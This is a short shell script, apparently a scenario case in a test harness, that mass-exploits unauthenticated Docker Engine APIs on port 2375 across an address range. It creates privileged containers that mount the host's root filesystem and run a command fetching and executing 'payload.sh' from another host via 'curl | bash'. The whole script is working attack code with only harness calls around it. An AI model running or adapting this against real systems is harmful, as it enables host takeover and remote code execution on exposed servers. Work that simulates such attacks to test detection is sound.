#!/bin/sh
. /opt/case/case.sh

n=0
for h in $(seq 2 30); do
    curl -s -m 1 "http://203.0.113.$h:2375/v1.24/containers/json" 2>/dev/null | grep -q Id || continue
    curl -s -m 2 -X POST -H 'Content-Type: application/json' "http://203.0.113.$h:2375/v1.24/containers/create" \
        -d '{"Image":"ubuntu:18.04","Cmd":["/bin/bash","-c","apt-get update && apt-get install -y curl; curl http://203.0.113.10/payload.sh | bash"],"HostConfig":{"Binds":["/:/mnt"],"Privileged":true}}' | grep -q Id
    curl -s -m 2 -X POST "http://203.0.113.$h:2375/v1.24/containers/0123456789ab/start" >/dev/null
    n=$((n + 1))
done
test $n -ge 20
took_place
